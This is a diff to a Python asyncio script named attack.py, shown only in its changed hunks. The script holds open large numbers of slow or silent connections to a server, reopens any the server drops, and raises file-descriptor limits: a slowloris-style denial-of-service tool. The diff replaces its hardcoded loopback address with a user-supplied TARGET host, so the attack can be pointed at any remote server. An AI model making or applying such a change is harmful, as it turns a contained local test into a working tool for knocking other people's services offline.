@@ -1,7 +1,7 @@
-"""attack.py PORT KIND COUNT SOURCE ...: hostile connections, until standard input ends.
+"""attack.py TARGET PORT KIND COUNT SOURCE ...: hostile connections, until standard input ends.
 
-None of them shows a key. From each source, an address of loopback, so many are held as COUNT says;
-what the server ends is made anew. A line comes when each has been tried: how many are held.
+None of them shows a key. From each source, an address of this machine, so many are held as COUNT
+says; what the server ends is made anew. A line comes when each has been tried: how many are held.
 
 silent        says nothing
 head          says the head of a request, a line at a time
@@ -38,7 +38,8 @@ MORE = {"head": b"X-More: 1\r\n", "body": b"x", "page": b"x"}
 class Attack:
     """Connections that are held, and made anew."""
 
-    def __init__(self, port: int, kind: str, pause: float) -> None:
+    def __init__(self, target: str, port: int, kind: str, pause: float) -> None:
+        self._target = target
         self._port, self._kind, self._pause = port, kind, pause
         self.held = self.tried = 0
         self._turn = asyncio.Semaphore(64)
@@ -50,7 +51,7 @@ class Attack:
                 async with self._turn:
                     try:
                         streams = await asyncio.open_connection(
-                            "127.0.0.1", self._port, local_addr=(source, 0)
+                            self._target, self._port, local_addr=(source, 0)
                         )
                     finally:
                         self.tried += 1
@@ -72,9 +73,9 @@ class Attack:
             writer.close()
 
 
-async def main(port: int, kind: str, count: int, sources: Sequence[str]) -> None:
+async def main(target: str, port: int, kind: str, count: int, sources: Sequence[str]) -> None:
     """Attack until standard input ends."""
-    attack = Attack(port, kind, pause=count * len(sources) / RENEWED)
+    attack = Attack(target, port, kind, pause=count * len(sources) / RENEWED)
     kept = [asyncio.create_task(attack.keep(source)) for _ in range(count) for source in sources]
     while attack.tried < len(kept):
         await asyncio.sleep(0.05)
@@ -88,5 +89,5 @@ if __name__ == "__main__":
         sys.exit(print(__doc__))
     _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
-    port, kind, count, *sources = sys.argv[1:]
-    asyncio.run(main(int(port), kind, int(count), sources))
+    target, port, kind, count, *sources = sys.argv[1:]
+    asyncio.run(main(target, int(port), kind, int(count), sources))
